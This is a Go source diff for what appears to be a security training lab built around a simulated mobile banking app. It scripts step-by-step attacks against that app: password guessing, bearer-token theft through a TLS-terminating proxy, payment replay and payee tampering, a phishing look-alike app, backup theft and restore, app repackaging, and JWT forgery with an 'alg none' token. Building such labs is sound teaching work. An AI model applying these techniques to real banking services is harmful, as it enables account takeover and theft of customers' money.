@@ -1,11 +1,14 @@
 package byhand
 
+import "slices"
+
 // byName are the steps of each attack that can be carried out today.
 var byName = map[string][]step{
 	"unknown-client": steps(
 		theCA,
 		say("Ask for the accounts without any credentials: `{curl} {api}/v1/accounts`."),
-		say("Do it again with an ID that you make up: `{curl} -H 'Authorization: key made-up' {api}/v1/accounts`.").at(withKeys),
+		say("Do it again with an ID that you make up: `{curl} -H '{proof}: key made-up' {api}/v1/accounts`.").at(withKeys),
+		say("The app's ID is no secret, so take the real one, and make up a token: `{curl} -H '{proof}: key harbour-mobile' -H 'Authorization: Bearer made-up' {api}/v1/accounts`.").at(withTokens),
 		say("Make a client certificate: `openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=made-up -keyout own-key.pem -out own.pem`.").at(withCertificates),
 		say("Show it: `{curl} --cert own.pem --key own-key.pem {api}/v1/accounts`. The API ends the handshake.").at(withCertificates),
 		say("Sign a request with a secret that you make up: `stages sign --secret made-up {api}/v1/accounts | {curl} -K -`. Without a certificate nobody looks at the MAC.").at(signed),
@@ -66,7 +69,10 @@ var byName = map[string][]step{
 		say("Read its settings: `unzip -p {package} settings.json`.").at(secretsInClear),
 		say("Its settings hold no secret: `unzip -p {package} settings.json`.").at(secretsHidden),
 		say("Search all of it, the program and the pictures, too, as it is and decoded from base64 and hexadecimal: `stages loot {package}`."),
-		say("No secret is among what was found, and no private key: this is where it ends.").at(secretsHidden),
+		say("No secret is among what was found, and no private key: this is where it ends.").at(secretsHidden).at(signed),
+		say("The app's ID is among it, which is no secret, and all that the app has to say of itself here.").at(secretsHidden).at(withKeys),
+		passwordOf("mallory").at(withKeys), ownToken,
+		book("HB-3001", "HB-2001", "own-session.txt").at(withTokens),
 		ownDevice.at(secretsInClear),
 		book("HB-1001", "HB-3001", "own-device.txt").at(secretsInClear),
 	),
@@ -74,7 +80,7 @@ var byName = map[string][]step{
 		theCA,
 		passwordOf("mallory"), signIn("mallory"),
 		hooked,
-		ownSession,
+		ownSession, ownToken,
 		book("HB-1001", "HB-3001", "loot/device.txt").at(withoutUsers),
 		book("HB-3001", "HB-2001", "own-session.txt").at(withUsers),
 	),
@@ -82,13 +88,13 @@ var byName = map[string][]step{
 		thePackage,
 		say("Take it apart, raise TRANSFER_CAP, the largest transfer that the app lets its user make (in cents), pack it again, and sign it with a key of your own: `stages pack --set TRANSFER_CAP=100000000 {package} changed.pkg`."),
 		passwordOf("mallory"),
-		say("Install it on your own phone, with installing from unknown sources allowed, and sign in: `mobileclient --phone mallory --stage {stage} --package changed.pkg sign-in --user mallory --password-file mallory.txt`.").at(withUsers),
-		say("Make a transfer above 1,000.00 with it, as its user: `mobileclient --phone mallory --stage {stage} --package changed.pkg transfer --from HB-3001 --to HB-2001 --amount 1500.00 --reference {attack}`."),
+		say("Install it on your own phone, with installing from unknown sources allowed, and sign in: `mobileclient --phone mallory --stage {stage} --package changed.pkg sign-in --user mallory --password-file mallory.txt`.").at(staysSignedIn),
+		say("Make a transfer above 1,000.00 with it, as its user: `mobileclient --phone mallory --stage {stage}{as mallory} --package changed.pkg transfer --from HB-3001 --to HB-2001 --amount 1500.00 --reference {attack}`."),
 	),
 	"instrumented-app": steps(
 		passwordOf("mallory"), signIn("mallory"),
-		say("Make a transfer above 1,000.00 with the genuine app on your own phone: `mobileclient --phone mallory --stage {stage} transfer --from HB-3001 --to HB-2001 --amount 1500.00 --reference refused`. The app itself refuses."),
-		say("Do it again under a debugger that finds the largest transfer allowed, 100000 cents, in the memory of the process and writes a larger number there: `mobileclient --phone mallory --stage {stage} --debug 100000=100000000 transfer --from HB-3001 --to HB-2001 --amount 1500.00 --reference {attack}`. gdb and Frida do the same for whoever has found the place."),
+		say("Make a transfer above 1,000.00 with the genuine app on your own phone: `mobileclient --phone mallory --stage {stage}{as mallory} transfer --from HB-3001 --to HB-2001 --amount 1500.00 --reference refused`. The app itself refuses."),
+		say("Do it again under a debugger that finds the largest transfer allowed, 100000 cents, in the memory of the process and writes a larger number there: `mobileclient --phone mallory --stage {stage}{as mallory} --debug 100000=100000000 transfer --from HB-3001 --to HB-2001 --amount 1500.00 --reference {attack}`. gdb and Frida do the same for whoever has found the place."),
 	),
 	"token-lift": steps(
 		theCA,
@@ -102,25 +108,27 @@ var byName = map[string][]step{
 		victimPays,
 		say("Find the victim's payment in the log: `grep /v1/transfers calls.log | tail -n 1 > payment.json`."),
 		say("Send the same bytes to the API again, from there: `stages intercept send < payment.json`. Where requests are signed, you have a minute."),
-		say("Look at the victim's account: was the payment booked twice? `mobileclient --phone alice --stage {stage} transfers HB-1001`"),
+		say("Look at the victim's account: was the payment booked twice? `mobileclient --phone alice --stage {stage}{as alice} transfers HB-1001`"),
 	),
 	"proxy-tamper": steps(
 		beside("be the load balancer at which TLS ends, and put your own account in the place of the payee before payments go on: `stages intercept terminator --listen {here} --payee HB-3001 > calls.log`. The client's certificate goes along in the field where the API expects it, and a MAC stays the one for the payment as it was."),
 		victimPays,
-		say("Look at the victim's account: to whom did the money go? `mobileclient --phone alice --stage {stage} transfers HB-1001`"),
+		say("Look at the victim's account: to whom did the money go? `mobileclient --phone alice --stage {stage}{as alice} transfers HB-1001`"),
 	),
 	"stolen-bearer": steps(
 		beside("be the machine at which TLS ends, and keep a log of complete calls: `stages intercept terminator --listen {here} > calls.log`."),
 		victimPays,
-		say("Take the Authorization field and the client's certificate out of one of the victim's calls, and leave the rest: `tail -n 1 calls.log | python3 -c 'import json, sys; c = json.load(sys.stdin); print(json.dumps({\"method\": \"GET\", \"path\": \"/{stage}/v1/accounts\", \"certificate\": c.get(\"certificate\"), \"header\": {\"Host\": c[\"header\"][\"Host\"], \"User-Agent\": c[\"header\"][\"User-Agent\"], \"Authorization\": c[\"header\"][\"Authorization\"]}}))' > own-call.json`."),
+		say("Take the Authorization field and the client's certificate out of one of the victim's calls, and leave the rest: `tail -n 1 calls.log | python3 -c 'import json, sys; c = json.load(sys.stdin); print(json.dumps({\"method\": \"GET\", \"path\": \"/{stage}/v1/accounts\", \"certificate\": c.get(\"certificate\"), \"header\": {\"Host\": c[\"header\"][\"Host\"], \"User-Agent\": c[\"header\"][\"User-Agent\"], \"Authorization\": c[\"header\"][\"Authorization\"]}}))' > own-call.json`.").at(signed),
+		say("Take the Authorization field out of one of the victim's calls, put the app's ID beside it, which is no secret, and leave the rest: `tail -n 1 calls.log | python3 -c 'import json, sys; c = json.load(sys.stdin); print(json.dumps({\"method\": \"GET\", \"path\": \"/{stage}/v1/accounts\", \"header\": {\"Host\": c[\"header\"][\"Host\"], \"User-Agent\": c[\"header\"][\"User-Agent\"], \"{proof}\": [\"key harbour-mobile\"], \"Authorization\": c[\"header\"][\"Authorization\"]}}))' > own-call.json`.").at(withKeys),
 		say("Ask for the victim's accounts with that, from there: `stages intercept send < own-call.json`. Is it the victim's data, or a challenge?"),
 	),
 	"password-guess": steps(
 		say("Take the name of a customer, which is no secret: alice. Get a list of common passwords."),
 		theCA,
-		say("Try the first: `{curl} -u alice:123456 -X POST {api}/v1/session`. Then the next."),
+		say("Try the first: `{curl} -u alice:123456 -X POST {api}/v1/session`. Then the next.").at(withSessions),
+		say("Try the first, in the name of the app: `{curl} -d 'grant_type=password&client_id=harbour-mobile&username=alice&password=123456' {api}/v1/token`. Then the next. After a handful, read the status and Retry-After.").at(byPassword),
 		say("When one fits, transfer the victim's money to your own account."),
-		say("To see what waits behind the app's proof, do it again with that proof, as the stage's curl commands have it, and the name of nobody. After a handful, read the status and Retry-After."),
+		say("To see what waits behind the app's proof, do it again with that proof, as the stage's curl commands have it, and the name of nobody. After a handful, read the status and Retry-After.").at(signed),
 	),
 	"password-grab": steps(
 		thePackage,
@@ -128,17 +136,44 @@ var byName = map[string][]step{
 		passwordOf("alice"),
 		say("Get it to the victim, through the app store or with a link in a message, and wait until she signs in with it: `mobileclient --phone alice --stage {stage} --package look-alike.pkg sign-in --user alice --password-file alice.txt`. She is told that the bank is being serviced."),
 		say("Read what she typed: `python3 -c 'import json; print(json.loads(open(\"typed.txt\").readline())[\"password\"])' > stolen.txt`."),
-		say("Type it into the genuine app on your own phone: `mobileclient --phone mallory --stage {stage} sign-in --user alice --password-file stolen.txt`."),
-		say("Transfer the victim's money to your own account: `mobileclient --phone mallory --stage {stage} transfer --from HB-1001 --to HB-3001 --amount 1.00 --reference {attack}`."),
+		say("Type it into the genuine app on your own phone: `mobileclient --phone mallory --stage {stage} sign-in --user alice --password-file stolen.txt`.").at(staysSignedIn),
+		say("Transfer the victim's money to your own account: `mobileclient --phone mallory --stage {stage} transfer --from HB-1001 --to HB-3001 --amount 1.00 --reference {attack}`.").at(staysSignedIn),
+		say("Type it into the genuine app on your own phone, and transfer the victim's money to your own account: `mobileclient --phone mallory --stage {stage} --user alice --password-file stolen.txt transfer --from HB-1001 --to HB-3001 --amount 1.00 --reference {attack}`.").at(forgetsUsers),
 	),
 	"backup-theft": steps(
 		theCA,
-		passwordOf("alice"),
-		say("The victim signs in on her phone: `mobileclient --phone lost --stage {stage} sign-in --user alice --password-file alice.txt`."),
-		say("Get a copy of what the app stores there: a backup on a laptop or in a cloud, or the phone itself on a repairer's desk: `cp -R {storage} backup`. The files are JSON."),
-		say("Search it for the session key and for how the phone is registered: `stages loot --into stolen backup/*/*`."),
-		passwordOf("mallory"), signIn("mallory"),
-		hooked,
-		book("HB-1001", "HB-3001", "stolen/user.txt"),
+		backup,
+		say("Search it for the session key and for how the phone is registered: `stages loot --into stolen backup/*/*`.").at(staysSignedIn),
+		passwordOf("mallory").at(staysSignedIn), signIn("mallory"),
+		hooked.at(staysSignedIn),
+		book("HB-1001", "HB-3001", "stolen/user.txt").at(staysSignedIn),
+		nothingStored,
+	),
+	"backup-restore": steps(
+		backup,
+		nothingStored,
+		say("Get a new phone, and put the copy into the app's storage there, as phones restore a backup: `mkdir -p {new phone} && cp -R backup {new phone}/storage`."),
+		say("Start the app. It takes you for the victim: `mobileclient --phone new-{stage} --stage {stage} transfer --from HB-1001 --to HB-3001 --amount 1.00 --reference {attack}`. But your phone is another device, whatever is in its storage, and the session is not good on it.").at(staysSignedIn),
+		say("Start the app. Nobody is signed in: `mobileclient --phone new-{stage} --stage {stage} transfer --from HB-1001 --to HB-3001 --amount 1.00 --reference {attack}`.").at(forgetsUsers),
+	),
+	"token-forge": steps(
+		theCA,
+		passwordOf("mallory"),
+		say("Get a token of your own, as any customer does: `stages token --stage {stage} --user mallory > own.txt`."),
+		say("Read it. It is signed, and not encrypted: `python3 -c 'import base64, re; print(*(base64.urlsafe_b64decode(part + \"==\").decode() for part in re.search(\"Bearer (.*)[.]\", open(\"own.txt\").read())[1].split(\".\")), sep=\"\\n\")'`."),
+		say("Write another name into it, and leave the signature as it is: `python3 -c 'import base64, re; field = open(\"own.txt\").read(); claims = re.search(\"[.](.*)[.]\", field)[1]; changed = base64.urlsafe_b64decode(claims + \"==\").replace(b\"mallory\", b\"alice\"); open(\"forged.txt\", \"w\").write(field.replace(claims, base64.urlsafe_b64encode(changed).decode().rstrip(\"=\")))'`."),
+		say("Use it: `{curl} -H @forged.txt {api}/v1/accounts`."),
+		say("Say that it needs no signature, and leave that out: `python3 -c 'import base64, re; field = open(\"forged.txt\").read(); none = base64.urlsafe_b64encode(b\"{\\\"alg\\\":\\\"none\\\",\\\"typ\\\":\\\"at+jwt\\\"}\").decode().rstrip(\"=\"); open(\"none.txt\", \"w\").write(re.sub(\"Bearer .*?[.](.*)[.].*\", \"Bearer \" + none + r\".\\1.\", field))'`, then `{curl} -H @none.txt {api}/v1/accounts`."),
+		say("Sign it with keys that you guess, or that come along in its header, and so on: the attack tries some seventy tokens, and says what each is."),
 	),
 }
+
+// backup is a copy of what the victim's app stores.
+var backup = slices.Concat(
+	passwordOf("alice"),
+	say("The victim signs in on her phone: `mobileclient --phone lost-{stage} --stage {stage} sign-in --user alice --password-file alice.txt`."),
+	say("Get a copy of what the app stores there: a backup on a laptop or in a cloud, or the phone itself on a repairer's desk: `cp -R {storage} backup`. The files are JSON."),
+)
+
+// nothingStored is where the app keeps its user in memory only.
+var nothingStored = say("Search it for what stands for the victim: `grep -r -c . backup`. Nothing does, as the app keeps it in its memory only.").at(forgetsUsers)
